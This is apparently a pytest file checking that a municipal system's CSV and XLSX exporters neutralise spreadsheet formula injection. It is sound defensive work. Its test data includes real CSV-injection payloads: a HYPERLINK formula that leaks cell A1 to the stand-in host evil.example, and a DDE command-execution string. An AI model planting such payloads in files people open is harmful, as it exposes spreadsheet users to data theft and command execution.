"""Every CSV and XLSX writer neutralises spreadsheet formulas: hostile names go in, and what a
spreadsheet reads back is the same text, never a formula; numbers stay numbers.

Source: issue 11 point 11 (a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is
written as text, in CSV and XLSX); OWASP, "CSV Injection"; docs/security.md, "Files and
limits". Each writer is tried in turn: the generic table writer (reports, statements, payment
files, invoices, the officer's downloads), the compensation statement, a grant's allocation, the
engine's result files, and the two templates.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from samverka.admission.files.result_files import read_explanations, write_files
from samverka.association.grants.domain.grant_allocation import Allocation, MunicipalAllocation
from samverka.association.grants.files.grant_allocation_csv import allocation_csv
from samverka.association.plan.files.budget_file import budget_template
from samverka.compensation.domain.month_lines import LineKind
from samverka.compensation.domain.organiser import Organiser
from samverka.compensation.domain.period import Month
from samverka.compensation.domain.statements import Statement, StatementRow
from samverka.compensation.files.compensation_files import statement_sheets, write
from samverka.platform.files.exports import write_table
from samverka.platform.files.spreadsheet_cells import (
    FORMULA_TRIGGERS,
    csv_cell,
    neutralise,
    restore,
)

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+46 70 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "#REF!",
)


def _csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _csv_file(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # keep a carriage return a cell has
        return list(csv.reader(handle))


def _assert_csv_text(written: str, original: str) -> None:
    if original.startswith(FORMULA_TRIGGERS) or original.startswith("'="):
        assert written == "'" + original
    assert not written.startswith(FORMULA_TRIGGERS)
    assert restore(written) == original


@given(st.text(max_size=20))
def test_a_neutralised_text_never_starts_a_formula_and_restores_to_itself(text: str) -> None:
    assert not neutralise(text).startswith(FORMULA_TRIGGERS)
    assert restore(neutralise(text)) == text


def test_numbers_dates_and_empty_cells_are_written_as_they_are() -> None:
    assert [csv_cell(v) for v in (Decimal("-1250.50"), -3, 2.5, None, True, date(2026, 9, 1))] == [
        "-1250.50",
        "-3",
        "2.5",
        "",
        "true",
        "2026-09-01",
    ]


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_table_writer_writes_hostile_names_as_text_and_amounts_as_numbers(
    tmp_path: Path, suffix: str
) -> None:
    path = tmp_path / f"export{suffix}"
    rows = [[name, Decimal("-1250.50"), -3] for name in HOSTILE]

    write_table(path, ["name", "amount", "count"], rows)

    if suffix == ".csv":
        written = _csv_file(path)[1:]
        for original, (name, amount, count) in zip(HOSTILE, written, strict=True):
            _assert_csv_text(name, original)
            assert (amount, count) == ("-1250.50", "-3")
        return
    sheet = openpyxl.load_workbook(path).active
    for original, (name, amount, count) in zip(HOSTILE, sheet.iter_rows(min_row=2), strict=True):
        xml_text = original.replace("\r", "\n")  # XML reads a carriage return as a line feed
        assert (name.value, name.data_type) == (xml_text, "s")
        assert name.quotePrefix == original.startswith(FORMULA_TRIGGERS)
        assert (amount.value, amount.data_type, count.value) == (-1250.5, "n", -3)


def test_a_control_character_in_a_name_does_not_break_the_workbook(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    write_table(path, ["name"], [["Al\x1bva"]])
    assert openpyxl.load_workbook(path).active["A2"].value == "Al\ufffdva"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_compensation_statement_writes_hostile_codes_as_text(tmp_path: Path, suffix: str) -> None:
    rows = tuple(
        StatementRow(
            payer="0180",
            payee=Organiser.municipality("0182"),
            school_unit=name,
            programme="NA",
            orientation=name,
            service_month=Month(2026, 9),
            kind=LineKind.REVERSAL,
            lines=-1,
            price_amount=Decimal("-9500.00"),
            supplement_amount=Decimal(0),
            amount=Decimal("-9500.00"),
        )
        for name in HOSTILE
    )
    path = tmp_path / f"statement{suffix}"

    write(path, statement_sheets(Statement("0180", Month(2026, 10), rows)))

    if suffix == ".csv":
        written = _csv_file(path)[1:]
        for original, row in zip(HOSTILE, written, strict=True):
            _assert_csv_text(row[6], original)
            _assert_csv_text(row[10], original)
            assert row[-1] == "-9500.00"
        return
    sheet = openpyxl.load_workbook(path).active
    for original, row in zip(HOSTILE, sheet.iter_rows(min_row=2), strict=True):
        assert (row[6].value, row[6].data_type) == (original.replace("\r", "\n"), "s")
        assert (row[-1].value, row[-1].data_type) == (-9500.0, "n")


def test_a_grants_allocation_writes_hostile_municipality_names_as_text() -> None:
    lines = tuple(
        MunicipalAllocation(f"01{number:02d}", Decimal(1), Decimal("0.1"), Decimal(10), 0, 10)
        for number in range(len(HOSTILE))
    )
    allocation = Allocation(Decimal(90), Decimal(0), Decimal(0), Decimal(90), Decimal(0), lines)
    names = {line.municipality_code: name for line, name in zip(lines, HOSTILE, strict=True)}

    written = _csv_rows(allocation_csv(allocation, names, ()))[1 : 1 + len(HOSTILE)]

    for original, row in zip(HOSTILE, written, strict=True):
        _assert_csv_text(row[1], original)


def test_the_engines_result_files_neutralise_ids_and_read_them_back(tmp_path: Path) -> None:
    header = ("applicant_id", "rank", "offering_id", "outcome", "reason")
    rows = [(name, 1, name, "placed", "-") for name in HOSTILE]

    write_files(tmp_path / "out", {"explanations.csv": (header, rows)}, {"seed": 1})

    written = _csv_file(tmp_path / "out" / "explanations.csv")
    for original, row in zip(HOSTILE, written[1:], strict=True):
        _assert_csv_text(row[0], original)
    read_back = read_explanations(tmp_path / "out", HOSTILE[0])
    assert [(row["applicant_id"], row["reason"]) for row in read_back] == [(HOSTILE[0], "-")]


def test_the_budget_template_writes_hostile_unit_names_as_text() -> None:
    content = budget_template(2026, list(HOSTILE))

    sheet = openpyxl.load_workbook(io.BytesIO(content))["Anvisningar"]
    written = [text.replace("\r", "\n") for text in HOSTILE]  # XML reads CR as a line feed
    cells = [row[0] for row in sheet.iter_rows() if row[0].value in written]

    assert [cell.value for cell in cells] == written
    assert all(cell.data_type == "s" for cell in cells)
